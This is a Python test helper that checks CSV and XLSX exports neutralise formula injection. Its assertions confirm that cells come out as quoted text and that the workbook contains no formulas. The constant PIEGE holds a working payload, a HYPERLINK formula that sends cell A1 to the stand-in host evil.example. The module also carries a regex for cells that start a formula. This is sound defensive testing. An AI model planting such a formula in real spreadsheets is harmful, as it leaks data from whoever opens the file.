"""What every export test checks of a cell that a hostile user filled with a formula: it comes out as text."""

import csv
import io
import re
import zipfile

import openpyxl

# What an intruder named a structure (or typed as a label) to leak a neighbouring cell from whoever opens the export.
PIEGE = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")'


def cellules_csv(contenu: bytes) -> list[str]:
    return [
        cellule for rang in csv.reader(io.StringIO(contenu.decode("utf-8-sig")), delimiter=";") for cellule in rang
    ]


def verifier_csv(contenu: bytes, piege: str = PIEGE) -> None:
    """The trap is there, neutralised by an apostrophe; no cell of the file starts a formula."""
    cellules = cellules_csv(contenu)
    assert f"'{piege}" in cellules
    assert not [c for c in cellules if re.match(r"[=+@\t\r]|-[^\d]", c)]


def verifier_xlsx(contenu: bytes, piege: str = PIEGE) -> None:
    """No formula anywhere in the workbook; the trap reads back as a text cell with its own value."""
    with zipfile.ZipFile(io.BytesIO(contenu)) as archive:
        for nom in archive.namelist():
            if nom.startswith("xl/worksheets/"):
                assert "<f>" not in archive.read(nom).decode() and "<f " not in archive.read(nom).decode()
    classeur = openpyxl.load_workbook(io.BytesIO(contenu))
    pieges = [c for feuille in classeur for rang in feuille.iter_rows() for c in rang if c.value == piege]
    assert pieges and all(c.data_type == "s" and c.quotePrefix for c in pieges)
